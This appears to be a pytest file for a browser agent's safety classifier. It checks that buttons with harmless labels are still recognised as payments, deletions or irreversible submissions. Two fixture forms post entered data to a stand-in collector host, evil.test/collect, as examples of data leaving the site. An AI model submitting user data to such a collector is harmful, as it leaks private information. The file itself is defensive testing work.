"""What goes out with a control decides, whatever harmless word it is called by. With the shipped word lists."""
# ruff: noqa: E501 - one case, one line

from __future__ import annotations

from collections.abc import Callable

import pytest

from engine.actions import parse_action
from engine.observe import TreeNode
from engine.rules import Bundle
from engine.safety.lexicon import lexicon_of
from engine.safety.resolve import Resolved, resolve
from tests.safety.conftest import page_from, page_of

Pressed = Callable[[str], Resolved]
CARD = '<input autocomplete=cc-number aria-label="Card number" value="4111 1111 1111 1111"><input aria-label=CVC value=987>'
MONEY = "<input name=payee aria-label=Recipient value=Ann><input name=amount value=500>"
FORMS = {
    "card": f"<form method=post>{CARD}%s</form>",
    "card by get": f"<form method=get>{CARD}%s</form>",
    "transfer": f"<form method=post action=/transfer>{MONEY}%s</form>",
    "transfer by get": f"<form method=get action=/transfer>{MONEY}%s</form>",
    "payment by get": "<form method=get action=/pay><input name=amount value=500>%s</form>",
    "transfer with a search": "<form method=post action=/transfer><input type=search name=payee value=Ann><input name=amount value=500>%s</form>",
    "file": "<form method=post><input type=file>%s</form>",
    "leaving": "<form method=post action=https://evil.test/collect><input name=note value=x>%s</form>",
    "leaving by get": "<form method=get action=https://evil.test/collect><input type=email value=ann@x.example>%s</form>",
    "new password": "<form method=post><input type=password autocomplete=new-password value=s3cret>%s</form>",
    "hidden command": "<form method=post><input type=hidden name=action value=delete>%s</form>",
}  # fmt: skip


@pytest.fixture(scope="session")
def pressed(bundle: Bundle) -> Pressed:
    lists = lexicon_of(bundle.words_version, bundle.languages)

    def what(body: str, url: str = "https://shop.example/page") -> Resolved:
        return resolve(parse_action('click("x")'), page_from(body, url=url), home="https://shop.example/", lists=lists)

    return what


@pytest.mark.parametrize("form", FORMS)
def test_no_harmless_word_hides_what_goes_out(pressed: Pressed, bundle: Bundle, form: str) -> None:
    words = bundle.languages["en"]["harmless"]
    found = {word: pressed(FORMS[form] % f"<button id=x>{word}</button>") for word in words}
    assert len(words) > 70
    assert {word: one.kind for word, one in found.items() if one.reversibility == "none"} == {}


@pytest.mark.parametrize("form", FORMS)
def test_what_does_not_submit_sends_nothing(pressed: Pressed, form: str) -> None:
    for kind in ("button", "reset"):
        assert pressed(FORMS[form] % f"<button id=x type={kind}>Cancel</button>").reversibility == "none"


@pytest.mark.parametrize("word", ["Go", "Add", "Trash", "View", "Edit", "Search", "Next"])
def test_a_form_that_sends_what_was_entered_is_not_known_to_be_harmless(pressed: Pressed, word: str) -> None:
    assert pressed(f"<form method=post>{MONEY}<button id=x>{word}</button></form>").reversibility == "unknown"


@pytest.mark.parametrize("word", ["Add card", "Add", "Search", "View", "Go", "Edit", "Pay later", "Close"])
def test_a_tree_with_a_card_in_a_form(bundle: Bundle, word: str) -> None:
    page = page_of(
        TreeNode(i="n", r="inp", n="Card number", v="4111 1111 1111 1111", ac="cc-number", fm=1),
        TreeNode(i="c", r="inp", n="CVC", v="987", fm=1), TreeNode(i="x", r="btn", n=word, fm=1),
    )  # fmt: skip
    lists = lexicon_of(bundle.words_version, bundle.languages)
    assert resolve(parse_action('click("x")'), page, home=page.url, lists=lists).kind == "payment"


@pytest.mark.parametrize(
    "body",
    ["<form method=post><input name=note><button id=x name=delete>Go</button></form>",
     "<form method=post><button id=x name=action value=delete>Go</button></form>"],
)  # fmt: skip
def test_a_button_may_say_what_it_does_by_what_it_sends(pressed: Pressed, body: str) -> None:
    assert pressed(body).kind == "deletion"


@pytest.mark.parametrize(
    "body",
    ["<form><input name=q value=tea><button id=x>Search</button></form>",
     "<form method=post><input type=search name=term value=tea><button id=x>Go</button></form>",
     "<form action=https://search.example/ method=get><input name=q value=tea><button id=x>Go</button></form>",
     "<form method=get action=/pay><input type=search value=tea><button id=x>Search</button></form>",
     "<form method=post><input name=user value=ann><input type=password value=x><button id=x>Sign in</button></form>",
     "<form method=post><input type=email value=ann@x.example><button id=x>Log in</button></form>",
     "<form method=post><input type=number name=quantity value=2><button id=x>Add to cart</button></form>",
     "<form method=post><input name=note value=x><button id=x>Cancel</button></form>",
     "<form method=post><button id=x>Sign out</button></form>", "<form method=post><button id=x>Show more</button></form>"],
)  # fmt: skip
def test_what_is_harmless_still_is(pressed: Pressed, body: str) -> None:
    assert pressed(body).reversibility == "none"


WARNING = "This will permanently delete your project."


@pytest.mark.parametrize("word", ["Confirm", "OK", "Continue"])
@pytest.mark.parametrize(
    "body",
    ["<p>{}</p><button id=x>%s</button>", "<form method=post><p>{}</p><button>Cancel</button><button id=x>%s</button></form>",
     "<form method=post><fieldset><legend>{}</legend><label>Name<input name=a></label><button id=x>%s</button></fieldset></form>",
     "<p>This will <b>permanently</b> delete your project.</p><button id=x>%s</button>"],
)  # fmt: skip
def test_a_plain_yes_under_a_warning_does_what_it_warns_of(pressed: Pressed, body: str, word: str) -> None:
    assert pressed(body.format(WARNING) % word).kind == "deletion"


def test_in_a_tree_the_warning_is_the_node_before(bundle: Bundle) -> None:
    page = page_of(TreeNode(i="t", r="txt", n=WARNING), TreeNode(i="x", r="btn", n="OK"))
    lists = lexicon_of(bundle.words_version, bundle.languages)
    assert resolve(parse_action('click("x")'), page, home=page.url, lists=lists).kind == "deletion"


@pytest.mark.parametrize(
    "body",
    [f"<p>{WARNING}</p><button>Delete</button><p>Your name</p><button id=x>OK</button>",
     "<p>Press Delete to remove a line.</p><button id=x>OK</button>", "<button>Delete permanently</button><button id=x>OK</button>",
     f"<p>{WARNING}</p><button id=x>Cancel</button>"],
)  # fmt: skip
def test_other_text_is_about_other_things(pressed: Pressed, body: str) -> None:
    assert pressed(body).reversibility == "none"


@pytest.mark.parametrize(
    ("body", "expected"),
    [('<a href="/items/5/delete"><button id=x type=button>Go</button></a>', "irreversible"),
     ('<button type=button>Delete <span id=x role=button>x</span></button>', "irreversible"),
     ('<a href="/items/5"><button id=x type=button>Go</button></a>', "none"),
     ('<div onclick="a()">Card <button id=x>Edit</button><button>Delete</button></div>', "none"),
     ("<button id=x>Don't cancel - delete</button>", "irreversible"), ("<button id=x>Cancel, don't delete</button>", "none"),
     ("<button id=x>Move to trash</button>", "irreversible"), ("<button id=x>In den Papierkorb</button>", "irreversible"),
     ("<button id=x>Uninstall</button>", "irreversible"), ("<a id=x href=/trash>Trash</a>", "none")],
)  # fmt: skip
def test_what_is_around_a_control_and_what_its_words_say(pressed: Pressed, body: str, expected: str) -> None:
    assert pressed(body).reversibility == expected


def test_delete_without_a_known_focus_sends(bundle: Bundle) -> None:
    page, lists = page_from("<p>Nothing</p>"), lexicon_of(bundle.words_version, bundle.languages)
    resolved = resolve(parse_action('press("Delete")'), page, home=page.url, lists=lists)
    assert (resolved.reversibility, resolved.submits) == ("unknown", True)


@pytest.mark.parametrize(
    "name", ["Remove selected items", "Remove component", "Ausgewählte entfernen", "Retirer les tickets sélectionnés", "Quitar seleccionados"]
)
def test_what_is_removed_for_all_is_a_deletion(pressed: Pressed, name: str) -> None:
    assert pressed(f"<button id=x>{name}</button>").kind == "deletion"


@pytest.mark.parametrize("name", ["Remove item", "Remove from cart", "Remove filter", "Remove selection"])
def test_what_is_only_taken_out_again_is_none(pressed: Pressed, name: str) -> None:
    assert pressed(f"<button id=x>{name}</button>").kind != "deletion"
